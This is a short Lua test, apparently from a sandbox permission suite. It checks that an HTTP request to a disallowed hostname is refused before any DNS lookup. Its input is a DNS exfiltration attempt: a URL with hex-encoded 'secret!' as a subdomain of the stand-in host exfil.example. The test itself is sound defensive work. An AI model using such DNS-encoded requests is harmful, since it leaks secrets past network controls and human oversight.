-- adversarial: leak data through a DNS query for a name the permissions refuse
-- exit: 0
-- With the default (loopback only), a name outside the list must be refused
-- before any lookup, so the query never reaches a resolver.
local r, err = Tool.try("http_request", {input = "http://73656372657421.exfil.example/x"})
assert(r == nil, "request to a refused name succeeded")
assert(err.type == "permission_denied", "want permission_denied, got " .. tostring(err.type) .. ": " .. tostring(err.message))
